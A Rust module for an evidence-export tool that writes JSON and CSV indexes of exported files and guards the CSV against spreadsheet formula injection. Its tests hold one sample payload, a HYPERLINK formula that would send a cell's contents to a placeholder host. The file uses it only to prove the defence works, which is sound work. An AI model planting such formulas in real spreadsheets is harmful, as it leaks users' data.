//! `index.json` / `index.csv`: what each numbered file is, for a person and a script.

use serde::{Deserialize, Serialize};
use ts_rs::TS;
use uuid::Uuid;

pub const INDEX_JSON: &str = "index.json";
pub const INDEX_CSV: &str = "index.csv";
pub const CUSTODY_LOG: &str = "custody-log.json";
pub const INDEX_PDF: &str = "evidence-index.pdf";
pub const README: &str = "README.txt";

/// One exported file. Dates are as the vault keeps them (ISO 8601; import time in UTC).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct IndexEntry {
    pub number: u32,
    pub file: String,
    pub id: Uuid,
    pub title: String,
    pub category: String,
    pub event_date: String,
    pub imported_at: String,
    pub original_name: String,
    #[ts(type = "number")]
    pub size: u64,
    pub sha256: String,
    pub source: String,
    pub provenance: String,
    pub description: String,
}

/// The CSV form of the index (a header row, then one row per file). Every text cell
/// goes through [`csv_cell`], so a title such as `=HYPERLINK(…)` stays text in a
/// spreadsheet.
pub fn index_csv(entries: &[IndexEntry]) -> Result<Vec<u8>, String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "number",
            "file",
            "id",
            "title",
            "category",
            "event_date",
            "imported_at",
            "original_name",
            "size",
            "sha256",
            "source",
            "provenance",
            "description",
        ])
        .map_err(|e| e.to_string())?;
    for e in entries {
        let number = e.number.to_string();
        let id = e.id.to_string();
        let size = e.size.to_string();
        writer
            .write_record([
                number.as_str(),
                &csv_cell(&e.file),
                &id,
                &csv_cell(&e.title),
                &csv_cell(&e.category),
                &csv_cell(&e.event_date),
                &csv_cell(&e.imported_at),
                &csv_cell(&e.original_name),
                &size,
                &csv_cell(&e.sha256),
                &csv_cell(&e.source),
                &csv_cell(&e.provenance),
                &csv_cell(&e.description),
            ])
            .map_err(|e| e.to_string())?;
    }
    writer.into_inner().map_err(|e| e.to_string())
}

/// A text cell as a spreadsheet will take it as text: one that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (which Excel, LibreOffice and Google Sheets may
/// run as a formula) gets a single quote in front (OWASP, "CSV injection"). Everything
/// else is kept as it is. The JSON files keep the exact text.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// What `custody-log.json` holds that a reader needs without the vault: the log head.
#[derive(Debug, Clone, Deserialize)]
pub(crate) struct CustodyHead {
    pub log_head: Option<String>,
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn entry(title: &str, description: &str) -> IndexEntry {
        IndexEntry {
            number: 1,
            file: "0001_x.txt".to_owned(),
            id: Uuid::nil(),
            title: title.to_owned(),
            category: "message".to_owned(),
            event_date: "2026-07-03".to_owned(),
            imported_at: "2026-07-04T10:00:00Z".to_owned(),
            original_name: "@home.txt".to_owned(),
            size: 12,
            sha256: "ab".repeat(32),
            source: "file".to_owned(),
            provenance: String::new(),
            description: description.to_owned(),
        }
    }

    fn rows(csv: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text() {
        let csv = index_csv(&[entry(
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
            "-2+3",
        )])
        .unwrap();
        let rows = rows(&csv);
        assert_eq!(
            rows[1][3],
            "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")"
        );
        assert_eq!(rows[1][12], "'-2+3");
        assert_eq!(rows[1][7], "'@home.txt");
        // Ordinary text, numbers and dates are as they were.
        assert_eq!(rows[1][0], "1");
        assert_eq!(rows[1][4], "message");
        assert_eq!(rows[1][5], "2026-07-03");
        assert_eq!(rows[1][8], "12");
    }

    #[test]
    fn every_dangerous_first_character_is_quoted_and_nothing_else() {
        for text in ["=1", "+1", "-1", "@A1", "\tx", "\rx"] {
            assert_eq!(csv_cell(text), format!("'{text}"), "{text:?}");
        }
        for text in ["", "a=1", " =1", "'=1", "1-2", "Zoë", "٣"] {
            assert_eq!(csv_cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn the_header_is_the_one_serde_wrote_before() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.serialize(entry("a", "b")).unwrap();
        let serde = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        let ours = String::from_utf8(index_csv(&[entry("a", "b")]).unwrap()).unwrap();
        assert_eq!(ours.lines().next(), serde.lines().next());
    }
}
